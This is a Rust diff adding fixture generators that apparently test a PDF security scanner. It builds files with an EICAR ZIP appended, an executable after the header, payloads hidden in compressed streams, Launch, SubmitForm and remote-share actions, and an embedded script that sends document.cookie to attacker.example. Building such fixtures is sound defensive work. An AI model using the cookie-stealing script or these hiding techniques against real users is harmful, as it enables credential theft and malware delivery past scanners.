@@ -77,6 +77,268 @@ pub fn pdf_with_hidden_launch() -> Vec<u8> {
     bytes
 }
 
+/// A ZIP holding the EICAR test file, as attackers append it to a PDF: unzip and 7-Zip open
+/// the PDF as this archive, and a scanner that does not unpack archives misses the virus.
+pub fn zipped_eicar() -> Vec<u8> {
+    zip(&[("eicar.com", EICAR)])
+}
+
+/// A valid PDF with [`zipped_eicar`] appended after `%%EOF`: small enough to pass the check
+/// that the file ends with `%%EOF`, and still a working ZIP.
+pub fn pdf_with_appended_zip() -> Vec<u8> {
+    let mut bytes = pdf(1, 0);
+    bytes.extend(zipped_eicar());
+    bytes
+}
+
+/// A valid PDF with `payload` appended after `%%EOF`.
+pub fn pdf_with_appended(payload: &[u8]) -> Vec<u8> {
+    let mut bytes = pdf(1, 0);
+    bytes.extend(payload);
+    bytes
+}
+
+/// A valid PDF whose header is followed, before the first object, by a web page in comment
+/// lines: PDF readers skip comments, a browser handed the file as HTML runs the script.
+pub fn pdf_with_html_after_header() -> Vec<u8> {
+    let page = b"%<html><body><script>document.location='https://attacker.example/?c='+document.cookie</script></body></html>\n";
+    raw_pdf_with_prelude(page, &one_page_objects())
+}
+
+/// A valid PDF whose header is followed by a Windows program before the first object.
+pub fn pdf_with_program_after_header() -> Vec<u8> {
+    let mut prelude = b"%".to_vec();
+    prelude.extend(exe());
+    prelude.push(b'\n');
+    raw_pdf_with_prelude(&prelude, &one_page_objects())
+}
+
+/// A valid PDF with `payload` deflated in a form XObject of the first page's resources: only
+/// someone who inflates the stream sees it.
+pub fn pdf_with_payload_in_stream(payload: &[u8]) -> Vec<u8> {
+    let payload = payload.to_vec();
+    build_pdf(1, 0, move |document, _| {
+        let form = Stream::new(
+            dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 1.into(), 1.into()] },
+            payload,
+        );
+        let form = document.add_object(compressed(form));
+        add_to_first_page(document, |page| {
+            page.set("Resources", dictionary! { "XObject" => dictionary! { "Hidden" => form } });
+        });
+    })
+}
+
+/// A valid PDF with `payload`, uncompressed, in a form XObject of the first page.
+pub fn pdf_with_payload_in_raw_stream(payload: &[u8]) -> Vec<u8> {
+    let payload = payload.to_vec();
+    build_pdf(1, 0, move |document, _| {
+        let form = Stream::new(
+            dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 1.into(), 1.into()] },
+            payload,
+        )
+        .with_compression(false);
+        let form = document.add_object(form);
+        add_to_first_page(document, |page| {
+            page.set("Resources", dictionary! { "XObject" => dictionary! { "Hidden" => form } });
+        });
+    })
+}
+
+/// A valid PDF with `payload` in a hex string of the document information dictionary.
+pub fn pdf_with_payload_in_string(payload: &[u8]) -> Vec<u8> {
+    let payload = payload.to_vec();
+    build_pdf(1, 0, move |document, _| {
+        let info = document.add_object(dictionary! { "Subject" => Object::String(payload, lopdf::StringFormat::Hexadecimal) });
+        document.trailer.set("Info", info);
+    })
+}
+
+/// [`pdf_with_payload_in_string`] packed into a compressed object stream, as PDF 1.5 writers
+/// do: the string is deflated along with the other objects.
+pub fn pdf_compact_with_payload(payload: &[u8]) -> Vec<u8> {
+    repack(&pdf_with_payload_in_string(payload))
+}
+
+/// A valid two-page PDF whose first page has a link annotation running `action`.
+pub fn pdf_with_link_action(action: Dictionary) -> Vec<u8> {
+    build_pdf(2, 0, move |document, _| {
+        let annotation = document.add_object(dictionary! {
+            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 700.into(), 300.into(), 730.into()], "A" => action,
+        });
+        add_to_first_page(document, |page| page.set("Annots", vec![annotation.into()]));
+    })
+}
+
+/// A link that submits the form's fields to a website.
+pub fn pdf_with_submit_form() -> Vec<u8> {
+    pdf_with_link_action(dictionary! {
+        "S" => "SubmitForm", "F" => dictionary! { "FS" => "URL", "F" => Object::string_literal("https://attacker.example/collect") },
+    })
+}
+
+/// A link that opens a page of another PDF, which may be on a network share.
+pub fn pdf_with_remote_go_to() -> Vec<u8> {
+    pdf_with_link_action(dictionary! {
+        "S" => "GoToR", "F" => Object::string_literal("\\\\attacker.example\\share\\next.pdf"), "D" => vec![0.into(), "Fit".into()],
+    })
+}
+
+/// A link that starts a program.
+pub fn pdf_with_launch_link() -> Vec<u8> {
+    pdf_with_link_action(dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") })
+}
+
+/// A link to a website.
+pub fn pdf_with_uri_link() -> Vec<u8> {
+    pdf_with_link_action(dictionary! { "S" => "URI", "URI" => Object::string_literal("https://attacker.example/login") })
+}
+
+/// A document that opens a website as soon as it is opened, through an action chained after
+/// an allowed one.
+pub fn pdf_with_chained_uri_on_open() -> Vec<u8> {
+    build_pdf(1, 0, |document, catalog| {
+        let uri = document.add_object(dictionary! { "S" => "URI", "URI" => Object::string_literal("https://attacker.example/") });
+        let first_page = first_page(document);
+        catalog.set("OpenAction", dictionary! { "S" => "GoTo", "D" => vec![first_page.into(), "Fit".into()], "Next" => vec![uri.into()] });
+    })
+}
+
+/// A page whose additional actions submit the form when the page closes.
+pub fn pdf_with_page_close_submit() -> Vec<u8> {
+    build_pdf(1, 0, |document, _| {
+        let submit = document.add_object(dictionary! {
+            "Type" => "Action", "S" => "SubmitForm", "F" => dictionary! { "FS" => "URL", "F" => Object::string_literal("https://attacker.example/") },
+        });
+        add_to_first_page(document, |page| page.set("AA", dictionary! { "C" => submit }));
+    })
+}
+
+/// A valid three-page PDF that only moves within itself: an open action to page 2, an outline,
+/// named destinations, a `/GoTo` link, a `/Dest` link and a "next page" named action.
+pub fn pdf_with_internal_links() -> Vec<u8> {
+    build_pdf(3, 0, |document, catalog| {
+        let pages = page_ids(document);
+        let (first, second, third) = (pages[0], pages[1], pages[2]);
+        let go_to = document.add_object(dictionary! {
+            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 700.into(), 300.into(), 730.into()],
+            "A" => dictionary! { "Type" => "Action", "S" => "GoTo", "D" => vec![third.into(), "XYZ".into(), 0.into(), 842.into(), Object::Null] },
+        });
+        let named_destination = document.add_object(dictionary! {
+            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 650.into(), 300.into(), 680.into()],
+            "Dest" => Object::string_literal("summary"),
+        });
+        let next_page = document.add_object(dictionary! {
+            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 600.into(), 300.into(), 630.into()],
+            "A" => dictionary! { "S" => "Named", "N" => "NextPage" }, "Border" => vec![0.into(), 0.into(), 0.into()],
+        });
+        if let Ok(Object::Dictionary(page)) = document.get_object_mut(first) {
+            page.set("Annots", vec![go_to.into(), named_destination.into(), next_page.into()]);
+        }
+        let outlines = document.new_object_id();
+        let chapter = document.add_object(dictionary! {
+            "Title" => Object::string_literal("Summary"), "Parent" => outlines,
+            "A" => dictionary! { "S" => "GoTo", "D" => Object::string_literal("summary") },
+        });
+        let appendix = document.add_object(dictionary! {
+            "Title" => Object::string_literal("Appendix"), "Parent" => outlines, "Prev" => chapter,
+            "Dest" => vec![third.into(), "Fit".into()],
+        });
+        if let Ok(Object::Dictionary(item)) = document.get_object_mut(chapter) {
+            item.set("Next", appendix);
+        }
+        document.objects.insert(
+            outlines,
+            Object::Dictionary(dictionary! { "Type" => "Outlines", "First" => chapter, "Last" => appendix, "Count" => 2 }),
+        );
+        catalog.set("Outlines", outlines);
+        catalog.set("OpenAction", vec![second.into(), "Fit".into()]);
+        catalog.set("Names", dictionary! { "Dests" => dictionary! { "Names" => vec![Object::string_literal("summary"), vec![second.into(), "Fit".into()].into()] } });
+    })
+}
+
+/// A valid PDF with what real documents carry in compressed streams: a 512 × 512 photo-like
+/// image and an embedded font program, both deflated, plus an uncompressed image. Their bytes
+/// are noise, the case that makes short signatures such as `PK` or `MZ` turn up by chance.
+pub fn pdf_with_compressed_font_and_image() -> Vec<u8> {
+    build_pdf(1, 0, |document, _| {
+        let image = |pixels: Vec<u8>, side: i64| {
+            Stream::new(
+                dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => side, "Height" => side, "ColorSpace" => "DeviceRGB", "BitsPerComponent" => 8 },
+                pixels,
+            )
+        };
+        let photo = document.add_object(compressed(image(noise(512 * 512 * 3, 0x5EED), 512)));
+        let raw = document.add_object(image(noise(128 * 128 * 3, 0xF00D), 128).with_compression(false));
+        let font_file = document.add_object(compressed(Stream::new(dictionary! { "Length1" => 200_000 }, noise(200_000, 0xF0A7))));
+        let descriptor = document.add_object(dictionary! {
+            "Type" => "FontDescriptor", "FontName" => "HudumaSans", "Flags" => 32, "FontFile2" => font_file,
+            "FontBBox" => vec![0.into(), 0.into(), 1000.into(), 1000.into()], "ItalicAngle" => 0, "Ascent" => 800, "Descent" => -200, "CapHeight" => 700, "StemV" => 80,
+        });
+        let font = document.add_object(
+            dictionary! { "Type" => "Font", "Subtype" => "TrueType", "BaseFont" => "HudumaSans", "FontDescriptor" => descriptor },
+        );
+        add_to_first_page(document, |page| {
+            page.set(
+                "Resources",
+                dictionary! { "Font" => dictionary! { "F2" => font }, "XObject" => dictionary! { "Photo" => photo, "Raw" => raw } },
+            );
+        });
+    })
+}
+
+/// Deterministic noise, the way compressed and pixel data looks to a byte scanner.
+pub fn noise(len: usize, seed: u64) -> Vec<u8> {
+    let mut state = seed | 1;
+    (0..len)
+        .map(|_| {
+            // xorshift64
+            state ^= state << 13;
+            state ^= state >> 7;
+            state ^= state << 17;
+            (state >> 24) as u8
+        })
+        .collect()
+}
+
+fn compressed(mut stream: Stream) -> Stream {
+    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), Compression::default());
+    std::io::Write::write_all(&mut encoder, &stream.content).expect("deflating in memory");
+    stream.set_content(encoder.finish().expect("deflating in memory"));
+    stream.dict.set("Filter", "FlateDecode");
+    stream.with_compression(false)
+}
+
+/// The page objects in page order (they are created in order, so by id).
+fn page_ids(document: &Document) -> Vec<lopdf::ObjectId> {
+    document
+        .objects
+        .iter()
+        .filter(|(_, object)| matches!(object.as_dict().and_then(|d| d.get(b"Type")), Ok(Object::Name(name)) if name == b"Page"))
+        .map(|(id, _)| *id)
+        .collect()
+}
+
+fn first_page(document: &Document) -> lopdf::ObjectId {
+    page_ids(document)[0]
+}
+
+fn add_to_first_page(document: &mut Document, change: impl FnOnce(&mut Dictionary)) {
+    let id = first_page(document);
+    if let Ok(Object::Dictionary(page)) = document.get_object_mut(id) {
+        change(page);
+    }
+}
+
+/// Catalog, page tree and one empty page, for [`raw_pdf`].
+fn one_page_objects() -> Vec<Vec<u8>> {
+    vec![
+        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec(),
+    ]
+}
+
 /// A PDF that needs the password [`PDF_PASSWORD`] to open (RC4, 128-bit).
 pub fn encrypted_pdf() -> Vec<u8> {
     encrypt(PDF_PASSWORD)
@@ -146,7 +408,13 @@ pub fn pdf_with_object_stream_bomb(inflated_mib: usize) -> Vec<u8> {
 
 /// A PDF of the given objects, numbered from 1, with object 1 as the catalog.
 fn raw_pdf(objects: &[Vec<u8>]) -> Vec<u8> {
+    raw_pdf_with_prelude(b"", objects)
+}
+
+/// [`raw_pdf`] with `prelude` between the header and the first object.
+fn raw_pdf_with_prelude(prelude: &[u8], objects: &[Vec<u8>]) -> Vec<u8> {
     let mut bytes = b"%PDF-1.5\n%\xB5\xED\xAE\xFB\n".to_vec();
+    bytes.extend(prelude);
     let mut offsets = Vec::new();
     for (index, object) in objects.iter().enumerate() {
         offsets.push(bytes.len());
